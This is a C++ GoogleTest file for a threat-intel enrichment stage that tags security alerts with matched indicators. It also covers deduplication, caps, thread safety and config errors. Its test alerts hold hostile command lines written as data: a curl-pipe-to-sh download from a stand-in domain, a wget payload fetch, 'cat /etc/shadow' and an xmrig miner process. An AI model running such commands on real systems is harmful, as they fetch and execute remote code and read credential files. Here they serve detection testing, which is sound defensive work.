// Given threat-intel feeds in the config, an alert naming one of their indicators (an address, a domain in its
// command line, a file hash, a process) carries threat.matched and threat.indicators everywhere an added field goes;
// an alert naming none carries neither; a bad feed or option stops the config with its position.
#include <gtest/gtest.h>

#include <fmt/format.h>

#include <thread>

#include "core/decode.hpp"
#include "core/stage.hpp"
#include "enrich/threat_intel.hpp"
#include "pipeline/config.hpp"
#include "route/filter.hpp"
#include "test_util.hpp"

using namespace saker;
using saker::test::data_path;
using saker::test::json_of;
using saker::test::text_of;

namespace {

std::string feeds_yaml(const std::string& extra = "") {
  const std::string dir = data_path("threat_intel/");
  return fmt::format(R"(enrich:
  threat_intel:
    feeds:
      - {{name: abuse-ips, type: list, path: "{0}ips.txt"}}
      - {{name: iocs, type: csv, path: "{0}iocs.csv"}}
      - {{name: apt1, type: stix, path: "{0}stix21-apt1.json"}}
      - {{name: url, type: stix, path: "{0}stix21-indicator-for-malicious-url.json"}}
      - {{name: misp, type: misp, path: "{0}misp-event-osint-asert-four-element-sword.json"}}
{1}sinks: [{{name: out, type: stdout}}]
)", dir, extra);
}

struct Chain {
  Metrics metrics;
  StageChain chain;
  std::unique_ptr<PipelineConfig> cfg;
};

std::unique_ptr<Chain> chain_of(const std::string& yaml) {
  auto c = std::make_unique<Chain>();
  ConfigErrors errors("test.yaml");
  c->cfg = parse_config(yaml, errors, ConfigUse::replay);
  if (!c->cfg) throw std::runtime_error(errors.to_string());
  for (const auto& s : c->cfg->stages) {
    StageContext ctx{s.name, c->metrics, "/nonexistent"};
    c->chain.add(s.name, s.build(ctx), c->metrics.timing("t", "t", {{"stage", s.name}}));
  }
  return c;
}

std::shared_ptr<Alert> alert_with(const std::string& output_fields) {
  static thread_local Decoder d;
  d.set_stages(true);
  auto r = d.decode(R"({"rule":"Outbound connection","priority":"Notice","output":"o","time":"2024-08-28T21:35:04Z","output_fields":{)" +
                    output_fields + "}}");
  if (!r) throw std::runtime_error(r.error().message);
  return std::move(r).value();
}

std::string config_errors(const std::string& yaml, const std::string& base_dir = "") {
  ConfigErrors errors("test.yaml");
  if (!base_dir.empty()) errors.set_base_dir(base_dir);
  auto cfg = parse_config(yaml, errors, ConfigUse::replay);
  return cfg ? "" : errors.to_string();
}

}  // namespace

TEST(ThreatIntel, AnAddressInTheMostSpecificCidrIsNamedWithItsFieldAndFeed) {
  auto c = chain_of(feeds_yaml());
  auto a = alert_with(R"("fd.sip":"203.0.113.200","fd.cip":"10.0.0.1","proc.name":"curl")");
  c->chain.run(*a);
  EXPECT_EQ(text_of(*a, "threat.matched"), "true");
  EXPECT_EQ(text_of(*a, "threat.indicators"),
            R"([{"type":"ipv4-addr","value":"203.0.113.128/25","field":"fd.sip","feed":"abuse-ips"}])");
  EXPECT_EQ(c->metrics.counter_value("saker_enrich_hits_total", {{"stage", "threat_intel"}}), 1u);
  EXPECT_EQ(c->metrics.counter_value("saker_threat_intel_matches_total", {{"stage", "threat_intel"}, {"feed", "abuse-ips"}}), 1u);
}

TEST(ThreatIntel, AnAlertThatNamesNoIndicatorGetsNoField) {
  auto c = chain_of(feeds_yaml());
  auto a = alert_with(R"("fd.sip":"192.0.2.1","fd.name":"/etc/shadow","proc.cmdline":"cat /etc/shadow notevil.com","proc.name":"cat")");
  c->chain.run(*a);
  EXPECT_EQ(text_of(*a, "threat.matched"), "<missing>");
  EXPECT_EQ(text_of(*a, "threat.indicators"), "<missing>");
  EXPECT_FALSE(a->has_fields_added());
  EXPECT_EQ(c->metrics.counter_value("saker_enrich_hits_total", {{"stage", "threat_intel"}}), 0u);
}

TEST(ThreatIntel, TupleEndsMappedAddressesCommandLinesHashesAndProcessesMatch) {
  auto c = chain_of(feeds_yaml());
  auto a = alert_with(R"("fd.name":"[::ffff:203.0.113.9]:40000->[2001:db8:dead:beef::1]:443",)"
                      R"("proc.cmdline":"sh -c 'curl -fsSL http://X4Z9ARB.cn/4712/ | sh; wget https://192.0.2.66/p; ping www.c2.example.net'",)"
                      R"("proc.hash.md5":"001DD76872D80801692FF942308C64E6","proc.name":"xmrig")");
  c->chain.run(*a);
  EXPECT_EQ(text_of(*a, "threat.matched"), "true");
  EXPECT_EQ(text_of(*a, "threat.indicators"),
            "["
            R"({"type":"ipv4-addr","value":"203.0.113.0/24","field":"fd.cip","feed":"abuse-ips"},)"
            R"({"type":"ipv6-addr","value":"2001:db8:dead:beef::1","field":"fd.sip","feed":"abuse-ips"},)"
            R"({"type":"domain-name","value":"http://x4z9arb.cn/4712/","field":"proc.cmdline","feed":"abuse-ips"},)"
            R"({"type":"ipv4-addr","value":"192.0.2.66","field":"proc.cmdline","feed":"iocs"},)"
            R"({"type":"domain-name","value":"c2.example.net","field":"proc.cmdline","feed":"iocs"},)"
            R"({"type":"file","value":"001DD76872D80801692FF942308C64E6","field":"proc.hash.md5","feed":"iocs"},)"
            R"({"type":"process","value":"xmrig","field":"proc.name","feed":"iocs"})"
            "]");
}

TEST(ThreatIntel, MatchesAreDeduplicatedAndCapped) {
  auto c = chain_of(feeds_yaml("    max_matches: 2\n"));
  auto a = alert_with(R"("proc.cmdline":"evil.example.com evil.example.com x.evil.example.com c2.example.net")");
  c->chain.run(*a);
  EXPECT_EQ(text_of(*a, "threat.indicators"),
            R"([{"type":"domain-name","value":"evil.example.com","field":"proc.cmdline","feed":"abuse-ips"},)"
            R"({"type":"domain-name","value":"c2.example.net","field":"proc.cmdline","feed":"iocs"}])");
  auto b = alert_with(R"("proc.cmdline":"evil.example.com malware.test drop.example.org c2.example.net")");
  c->chain.run(*b);
  EXPECT_EQ(text_of(*b, "threat.indicators").find("c2.example.net"), std::string::npos);  // the third: over the cap
}

TEST(ThreatIntel, AHostileMegabyteCommandLineCostsABoundedScan) {
  auto c = chain_of(feeds_yaml());
  std::string cmdline = "evil.example.com ";
  while (cmdline.size() < 1'000'000) cmdline.append("aaaaaaa ");  // near decode's 1 MiB alert limit
  cmdline.append("c2.example.net");
  auto a = alert_with(R"("proc.cmdline":")" + cmdline + R"(")");
  c->chain.run(*a);
  EXPECT_EQ(text_of(*a, "threat.indicators"),
            R"([{"type":"domain-name","value":"evil.example.com","field":"proc.cmdline","feed":"abuse-ips"}])");
  // One token a megabyte long is skipped as a whole, not searched.
  auto b = alert_with(R"("proc.cmdline":")" + std::string(1'000'000, 'a') + R"(.evil.example.com")");
  c->chain.run(*b);
  EXPECT_EQ(text_of(*b, "threat.matched"), "<missing>");
}

TEST(ThreatIntel, FieldsChooseWhatIsLookedUp) {
  auto c = chain_of(feeds_yaml("    fields: {ip: [fd.rip], domain: [k8s.pod.name], hash: [], process: []}\n"));
  auto a = alert_with(R"("fd.sip":"203.0.113.7","fd.rip":"198.51.100.23","k8s.pod.name":"evil.example.com","proc.name":"xmrig")");
  c->chain.run(*a);
  EXPECT_EQ(text_of(*a, "threat.indicators"),
            R"([{"type":"ipv4-addr","value":"198.51.100.23","field":"fd.rip","feed":"abuse-ips"},)"
            R"({"type":"domain-name","value":"evil.example.com","field":"k8s.pod.name","feed":"abuse-ips"}])");
}

TEST(ThreatIntel, TheFieldsReachTheJsonFormatFiltersAndThePersistedForm) {
  auto c = chain_of(feeds_yaml());
  auto a = alert_with(R"("fd.sip":"203.0.113.7")");
  c->chain.run(*a);
  const std::string json = json_of(*a);
  EXPECT_NE(json.find(R"("threat.matched":true,"threat.indicators":[{"type":"ipv4-addr","value":"203.0.113.7","field":"fd.sip","feed":"abuse-ips"}])"),
            std::string::npos) << json;
  auto filter = Filter::compile("threat.matched = true");
  ASSERT_TRUE(filter) << filter.error().message;
  EXPECT_TRUE(filter.value()->matches(*a));
  Decoder d;
  auto back = d.decode(a->persisted(), Decoder::Mode::Persisted);
  ASSERT_TRUE(back) << back.error().message;
  EXPECT_EQ(text_of(*back.value(), "threat.indicators"), text_of(*a, "threat.indicators"));
  Value v;
  ASSERT_TRUE(back.value()->lookup("threat.matched", v));
  EXPECT_EQ(v.kind, Value::Kind::Bool);
  ASSERT_TRUE(back.value()->lookup("threat.indicators", v));
  EXPECT_EQ(v.kind, Value::Kind::Array);
  EXPECT_EQ(json_of(*back.value()), json);
  const auto added = back.value()->added();
  ASSERT_EQ(added.size(), 2u);
  EXPECT_EQ(stage_origin(added[1].stage).key, "threat_intel");
  auto miss = alert_with(R"("fd.sip":"192.0.2.1")");
  c->chain.run(*miss);
  EXPECT_FALSE(filter.value()->matches(*miss));
}

TEST(ThreatIntel, DecodingThreadsShareOneStage) {
  auto c = chain_of(feeds_yaml());
  std::vector<std::thread> threads;
  std::atomic<int> wrong{0};
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 500; ++i) {
        const bool hit = (i + t) % 2 == 0;
        auto a = alert_with(fmt::format(R"("fd.sip":"{}","proc.cmdline":"ping {}")", hit ? "203.0.113.7" : "192.0.2.1",
                                        hit ? "evil.example.com" : "example.com"));
        c->chain.run(*a);
        if ((text_of(*a, "threat.matched") == "true") != hit) ++wrong;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(wrong.load(), 0);
  EXPECT_EQ(c->metrics.counter_value("saker_enrich_hits_total", {{"stage", "threat_intel"}}), 1000u);
}

TEST(ThreatIntel, MetricsSayWhatEachFeedLoadedAndSkipped) {
  auto c = chain_of(feeds_yaml());
  const std::string text = c->metrics.render();
  EXPECT_NE(text.find(R"(saker_threat_intel_indicators{stage="threat_intel",feed="apt1",type="ipv4-addr"} 4)"), std::string::npos) << text;
  EXPECT_NE(text.find(R"(saker_threat_intel_indicators{stage="threat_intel",feed="apt1",type="file"} 2)"), std::string::npos);  // one MD5 is in iocs.csv too
  EXPECT_NE(text.find(R"(saker_threat_intel_skipped{stage="threat_intel",feed="apt1",reason="duplicate"} 1)"), std::string::npos);
  EXPECT_NE(text.find(R"(saker_threat_intel_skipped{stage="threat_intel",feed="apt1",reason="unsupported"} 2)"), std::string::npos);
}

TEST(ThreatIntelConfig, RelativeFeedPathsResolveAgainstTheConfigFolder) {
  const std::string yaml = R"(enrich:
  threat_intel:
    feeds: [{name: abuse-ips, type: list, path: ips.txt}]
sinks: [{name: out, type: stdout}]
)";
  EXPECT_EQ(config_errors(yaml, data_path("threat_intel")), "");
  EXPECT_NE(config_errors(yaml, data_path("sample_alerts")).find("test.yaml:3:49: enrich.threat_intel.feeds[0].path: feed abuse-ips: cannot read"),
            std::string::npos) << config_errors(yaml, data_path("sample_alerts"));
}

TEST(ThreatIntelConfig, BadOptionsAndBadFeedsAreErrorsWithTheirPosition) {
  const std::string dir = data_path("threat_intel");
  std::string all = config_errors(R"(enrich:
  threat_intel:
    feds: []
    max_matches: 0
    fields: {ip: [fd.sip], domian: [proc.cmdline]}
sinks: [{name: out, type: stdout}]
)");
  EXPECT_NE(all.find("test.yaml:3:5: enrich.threat_intel.feds: unknown key, did you mean \"feeds\"?"), std::string::npos) << all;
  EXPECT_NE(all.find("test.yaml:4:18: enrich.threat_intel.max_matches"), std::string::npos) << all;
  EXPECT_NE(all.find("test.yaml:5:28: enrich.threat_intel.fields.domian: unknown key, did you mean \"domain\"?"), std::string::npos) << all;

  all = config_errors(R"(enrich:
  threat_intel:
    feeds:
      - {name: a, type: list, path: ips.txt}
      - {name: a, type: csv, path: iocs.csv}
      - {name: b, type: taxii, path: iocs.csv}
      - {name: c, type: csv, path: ips.txt}
sinks: [{name: out, type: stdout}]
)", dir);
  EXPECT_NE(all.find("test.yaml:5:16: enrich.threat_intel.feeds[1].name: two feeds are named \"a\""), std::string::npos) << all;
  EXPECT_NE(all.find("test.yaml:6:25: enrich.threat_intel.feeds[2].type: unknown feed type \"taxii\""), std::string::npos) << all;
  EXPECT_NE(all.find("test.yaml:7:36: enrich.threat_intel.feeds[3].path: feed c: " + dir + "/ips.txt:2: the first line must be a header"),
            std::string::npos) << all;

  all = config_errors(R"(enrich:
  threat_intel:
    feeds: []
sinks: [{name: out, type: stdout}]
)");
  EXPECT_NE(all.find("test.yaml:3:12: enrich.threat_intel.feeds: must be a non-empty list"), std::string::npos) << all;
}

TEST(ThreatIntelConfig, OnMatchPriorityIsValidatedAndRefusedUntilTheCoreCarriesIt) {
  std::string all = config_errors(feeds_yaml("    on_match: {priority: critical}\n"));
  EXPECT_NE(all.find("test.yaml:9:26: enrich.threat_intel.on_match.priority: on_match.priority is not supported yet"),
            std::string::npos) << all;
  all = config_errors(feeds_yaml("    on_match: {priority: urgent, tag: x}\n"));
  EXPECT_NE(all.find("enrich.threat_intel.on_match.priority: must be a Falco priority"), std::string::npos) << all;
  EXPECT_NE(all.find("enrich.threat_intel.on_match.tag: unknown key"), std::string::npos) << all;
}
